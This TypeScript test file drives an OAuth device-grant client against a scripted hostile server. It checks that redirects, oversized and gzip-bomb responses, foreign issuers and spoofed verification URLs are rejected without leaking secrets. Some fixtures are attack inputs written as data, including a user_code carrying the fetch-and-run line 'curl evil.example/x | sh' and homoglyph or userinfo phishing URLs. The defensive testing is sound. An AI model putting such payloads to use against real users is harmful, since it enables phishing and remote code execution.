// The exported `runDeviceGrant` (omicos-auth/device-grant) against a hostile RFC 8628 server of
// the test's own (spec/support/hostile-server.ts, no reference server behind it), with both
// fetches the engine meets: the platform's (undici: WHATWG streams) and the Node CLI's
// (cross-fetch: Node streams). Every misbehaviour ends as an EngineError whose message holds
// no secret and no value the server sent, and nothing is sent where a redirect points.
import { test } from 'uvu'
import * as assert from 'uvu/assert'
import type { PairingView } from '../../machines/device-grant.contract.js'
import { runDeviceGrant, type FetchLike } from '../../effects/client/device-grant.js'
import { forgetDiscovery } from '../../effects/client/discovery.js'
import { EngineError } from '../../effects/client/engine-error.js'
import { releaseSecrets } from '../../effects/client/held-secrets.js'
import { nodeFetch } from '../../effects/node/node-fetch.js'
import {
  sendEndless,
  sendGzipBomb,
  sendHuge,
  sendJson,
  startCountingServer,
  startHostileServer,
  type HostileServer,
  type Script,
} from '../support/hostile-server.js'
import { timeout } from '../support/wait.js'
import { wordsOf } from '../support/failure-words.js'

const DEVICE_CODE = 'dc-secret-0123456789abcdef'
const ACCESS_TOKEN = 'at-secret-0123456789abcdef'
const REFRESH_TOKEN = 'rt-secret-0123456789abcdef'

let hostile: HostileServer

test.before(async () => {
  hostile = await startHostileServer()
})
test.after(async () => {
  await hostile?.close()
  releaseSecrets()
})

/** A well-behaved RFC 8628 server, route by route, on top of which each test scripts one step. */
const polite = (overrides: Record<string, Script> = {}) => {
  hostile.reset()
  hostile.requests.length = 0
  // Discovery is kept per fetch for the life of the process: each scenario starts afresh.
  for (const [, fetch] of FETCHES) forgetDiscovery(fetch)
  const url = hostile.url
  const routes: Record<string, Script> = {
    'GET /.well-known/oauth-authorization-server': ({ res }) =>
      sendJson(res, 200, {
        issuer: url,
        token_endpoint: `${url}/token`,
        device_authorization_endpoint: `${url}/device/auth`,
        revocation_endpoint: `${url}/revoke`,
      }),
    'POST /device/auth': ({ res }) =>
      sendJson(res, 200, {
        device_code: DEVICE_CODE,
        user_code: 'BCDF-GHJK',
        verification_uri: `${url}/device`,
        verification_uri_complete: `${url}/device?user_code=BCDF-GHJK`,
        expires_in: 600,
        interval: 1,
      }),
    'POST /token': ({ res, count }) =>
      count < 2
        ? sendJson(res, 400, { error: 'authorization_pending' })
        : sendJson(res, 200, { access_token: ACCESS_TOKEN, refresh_token: REFRESH_TOKEN, token_type: 'Bearer', expires_in: 3600 }),
    'POST /revoke': ({ res }) => void res.writeHead(200).end(),
    ...overrides,
  }
  for (const [route, script] of Object.entries(routes)) hostile.on(route, script)
}

const FETCHES: Array<[string, FetchLike | undefined]> = [
  ['platform fetch', undefined],
  ['cross-fetch', nodeFetch()],
]

const grant = (fetch: FetchLike | undefined, onCode: (auth: PairingView) => void = () => {}) =>
  timeout(runDeviceGrant({ server: hostile.url, clientId: 'my-cli', scope: 'openid', fetch, timeoutMs: 10_000, onCode }), 30_000, 'runDeviceGrant')

const failsWith = async (promise: Promise<unknown>, kind: string, pattern: RegExp, never: string[] = []) => {
  try {
    await promise
  } catch (error) {
    assert.instance(error, EngineError)
    // What a person would read: the CLI's words for the failure, and the failure's data.
    const message = `${wordsOf(error)} ${JSON.stringify((error as EngineError).details)}`
    assert.is((error as EngineError).kind, kind, message)
    assert.match(message, pattern)
    assert.not.match(message, /[\u0000-\u001f\u202a-\u202e]/)
    for (const secret of [DEVICE_CODE, ACCESS_TOKEN, REFRESH_TOKEN, ...never]) assert.not.ok(message.includes(secret), `${secret} in: ${message}`)
    return message
  }
  assert.unreachable('the grant succeeded')
}

for (const [name, fetch] of FETCHES) {
  test(`${name}: a poll error that echoes the device code -> bad_response, the code [redacted]`, async () => {
    polite({
      'POST /token': ({ req, res }) =>
        sendJson(res, 400, { error: 'invalid_request', error_description: `bad ${new URLSearchParams(req.body).get('device_code')}` }),
    })
    await failsWith(grant(fetch), 'bad_response', /invalid_request: bad \[redacted\]/)
  })

  test(`${name}: a 307 on the device authorization or on a poll -> bad_response, nothing sent to the Location`, async () => {
    const elsewhere = await startCountingServer()
    try {
      const redirect: Script = ({ res }) => void res.writeHead(307, { location: `${elsewhere.url}/x` }).end()
      polite({ 'POST /device/auth': redirect })
      await failsWith(grant(fetch), 'bad_response', /redirect \(HTTP 307\)/)
      polite({ 'POST /token': redirect })
      await failsWith(grant(fetch), 'bad_response', /redirect \(HTTP 307\)/)
      polite({ 'GET /.well-known/oauth-authorization-server': ({ res }) => void res.writeHead(302, { location: `${elsewhere.url}/meta` }).end() })
      await failsWith(grant(fetch), 'bad_response', /redirect \(HTTP 302\)/)
      assert.is(elsewhere.hits.length, 0)
    } finally {
      await elsewhere.close()
    }
  })

  for (const [what, script] of [
    ['a 100 MiB answer', ({ res }) => sendHuge(res, 100)],
    ['a 100 MiB answer that says so', ({ res }) => sendHuge(res, 100, { 'content-length': String(100 * 1024 * 1024 + 19) })],
    ['an endless answer', ({ res }) => sendEndless(res)],
    ['a gzip bomb', ({ res }) => sendGzipBomb(res)],
  ] as Array<[string, Script]>) {
    test(`${name}: ${what} to a poll -> bad_response at the 1 MiB cap`, async () => {
      polite({ 'POST /token': script })
      await failsWith(grant(fetch), 'bad_response', /larger than 1 MiB/)
    })
  }

  test(`${name}: metadata for another issuer -> bad_response, the device authorization is never asked`, async () => {
    for (const issuer of ['https://evil.example', `${hostile.url}.evil.example`]) {
      polite({
        'GET /.well-known/oauth-authorization-server': ({ res, url }) =>
          sendJson(res, 200, { issuer, token_endpoint: `${url}/token`, device_authorization_endpoint: `${url}/device/auth` }),
      })
      await failsWith(grant(fetch), 'bad_response', /another issuer/, ['evil', 'calls itself'])
      assert.is(hostile.seen('POST /device/auth').length, 0)
    }
    // The same machine by another name (localhost for 127.0.0.1): the name it gives is said,
    // so a person can use it; another host's name never is (a phisher's wish).
    const local = hostile.url.replace('127.0.0.1', 'localhost')
    polite({
      'GET /.well-known/oauth-authorization-server': ({ res, url }) =>
        sendJson(res, 200, { issuer: local, token_endpoint: `${url}/token`, device_authorization_endpoint: `${url}/device/auth` }),
    })
    const message = await failsWith(grant(fetch), 'bad_response', /another issuer/)
    assert.ok(String(message).includes(`(it calls itself ${local})`), message)
    assert.is(hostile.seen('POST /device/auth').length, 0)
  })

  test(`${name}: pairing addresses off the issuer origin and codes that are not codes -> bad_response, onCode never called`, async () => {
    const url = hostile.url
    for (const [extra, never] of [
      [{ verification_uri: 'https://evil.example/device' }, 'evil'],
      [{ verification_uri_complete: 'https://\u0430uth.example/device' }, 'uth.example'],
      [{ verification_uri: `${url.replace('//', '//127.0.0.1@')}/device` }, '@'],
      [{ verification_uri: `${url.replace(/:\d+$/, ':1')}/device` }, ':1/'],
      [{ user_code: 'curl evil.example/x | sh' }, 'curl'],
      [{ user_code: 'AB' }, 'AB'],
      [{ expires_in: 1e300 }, '1e+300'],
      [{ interval: -1 }, 'not-in-any-message'],
    ] as Array<[object, string]>) {
      polite({
        'POST /device/auth': ({ res }) =>
          sendJson(res, 200, { device_code: DEVICE_CODE, user_code: 'BCDF-GHJK', verification_uri: `${url}/device`, expires_in: 600, ...extra }),
      })
      let shown = false
      await failsWith(
        grant(fetch, () => void (shown = true)),
        'bad_response',
        /./,
        [never],
      )
      assert.not.ok(shown, JSON.stringify(extra))
    }
  })

  test(`${name}: a token lifetime of 1e300 -> bad_response in a plain sentence, both tokens revoked`, async () => {
    polite({
      'POST /token': ({ res }) => {
        res.writeHead(200, { 'content-type': 'application/json' })
        res.end(`{"access_token":"${ACCESS_TOKEN}","refresh_token":"${REFRESH_TOKEN}","token_type":"Bearer","expires_in":1e300}`)
      },
    })
    await failsWith(grant(fetch), 'bad_response', /sent a token lifetime \(expires_in\) a value, outside 1\.\.315360000 seconds/)
    const revoked = hostile.seen('POST /revoke').map((r) => new URLSearchParams(r.body).get('token'))
    assert.equal(revoked, [REFRESH_TOKEN, ACCESS_TOKEN])
  })

  test(`${name}: one HTTP 500 on a poll, then the tokens -> granted`, async () => {
    polite({
      'POST /token': ({ res, count }) =>
        count === 1 ? sendJson(res, 500, { error: 'server_error' }) : sendJson(res, 200, { access_token: ACCESS_TOKEN, token_type: 'Bearer', expires_in: 3600 }),
    })
    const tokens = await grant(fetch)
    assert.is(tokens.access_token, ACCESS_TOKEN)
  })
}

test.run()
